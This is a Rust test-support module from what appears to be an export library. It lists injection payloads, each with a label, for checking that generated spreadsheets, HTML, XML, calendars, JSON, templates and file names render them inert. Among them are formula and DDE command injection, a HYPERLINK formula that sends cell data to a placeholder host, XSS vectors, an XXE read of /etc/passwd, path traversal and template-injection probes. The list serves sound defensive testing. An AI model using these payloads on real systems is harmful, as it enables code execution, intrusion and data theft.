//! Texts that must never do anything, the rows of a RUN filled with them, and strict readers of what is written.
#![allow(dead_code, reason = "each test binary uses a part of this")]

pub mod html;
pub mod names;
pub mod road;
pub mod run;
pub mod sheets;
pub mod xml;

/// A text and what it tries.
pub struct Payload {
    pub what: &'static str,
    pub text: String,
}

/// What formulas, markup, calendars, templates and file names have been broken with.
pub fn payloads() -> Vec<Payload> {
    let of = |(what, text): (&'static str, &str)| Payload { what, text: text.to_owned() };
    let mut all: Vec<Payload> = [
        ("formula", "=1+1"),
        ("formula, plus", "+1+1"),
        ("formula, minus", "-1+1"),
        ("formula, at", "@SUM(1,1)"),
        ("formula behind a tab", "\t=1+1"),
        ("formula behind a carriage return", "\r=1+1"),
        ("formula behind a line feed", "\n=1+1"),
        ("formula behind a space", " =1+1"),
        ("formula, full width", "＝1+1"),
        ("formula, full-width at", "＠SUM(1,1)"),
        ("formula behind a zero-width space", "\u{200b}=1+1"),
        ("formula behind a byte order mark", "\u{feff}=1+1"),
        ("DDE", "=cmd|' /C calc'!A0"),
        ("DDE in a function", "=DDE(\"cmd\";\"/C calc\";\"x\")"),
        ("link", "=HYPERLINK(\"http://x.invalid/?\"&A1,\"开\")"),
        ("web service", "=WEBSERVICE(\"http://x.invalid\")"),
        ("CSV quotes", "a\",=1+1,\"b"),
        ("CSV row", "a\r\n=1+1,b"),
        ("script", "<script>document.title='PWNED'</script>"),
        ("script's end", "</script></style></textarea></title><script>document.title='PWNED'</script>"),
        ("image with a handler", "<img src=x onerror=\"document.title='PWNED'\">"),
        ("SVG with a handler", "<svg/onload=document.title='PWNED'><animate onbegin=alert(1) attributeName=x>"),
        ("out of an attribute", "\" autofocus onfocus=\"document.title='PWNED'"),
        ("out of an attribute, single", "' onmouseover='document.title=1"),
        ("script address", "javascript:document.title='PWNED'"),
        ("CSS", "</style><style>*{background:url(http://x.invalid)}</style>}{expression(alert(1))"),
        ("comment", "--><b>x</b><!--"),
        ("CDATA", "]]><x/><![CDATA["),
        ("entity declaration", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;"),
        ("entities", "&lt;b&gt; &amp; &#60;script&#62; &bogus; &#0;"),
        ("rich text of a workbook", "<r><t>x</t></r>"),
        ("escape of a workbook", "_x003D_1+1 _x0000_"),
        ("control characters", "甲\u{1}\u{8}\u{b}\u{1b}[31m\u{1f}\u{7f}\u{85}乙"),
        ("NUL", "甲\u{0}乙.csv"),
        ("not characters", "甲\u{fffe}\u{ffff}乙"),
        ("right to left", "\u{202e}xslx.exe\u{2066}楚\u{2069}"),
        ("zero width", "楚\u{200d}\u{200c}雄\u{2060}\u{ad}"),
        ("path", "../../../../tmp/PWNED"),
        ("path of Windows", "..\\..\\PWNED.exe"),
        ("absolute path", "/etc/PWNED"),
        ("drive", "C:\\PWNED:stream"),
        ("reserved name", "CON"),
        ("trailing dots", "nul.txt. . ."),
        ("calendar event", "甲\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:PWNED\r\nDTSTART:20250101T000000\r\n x"),
        ("calendar text", "a\\n;b,c:\"d\"\\"),
        ("track", "</name></wpt><wpt lat=\"0\" lon=\"0\"><name>PWNED"),
        ("JSON", "\"}],\"PWNED\":[{\"x\":\"\\u003c\u{2028}\u{2029}"),
        ("template", "{{ 7*7 }}{% for x in y %}{% endfor %}{# x #}${7*7}#{7*7}<%= 7*7 %>"),
        ("header of a page", "&P&\"Wingdings\"&99&D&[Picture]"),
    ]
    .into_iter()
    .map(of)
    .collect();
    all.push(Payload { what: "very long", text: "长<&\"=".repeat(8_000) });
    all
}

/// What takes a payload's place to see what a page looks like without it.
pub const HARMLESS: &str = "甲";
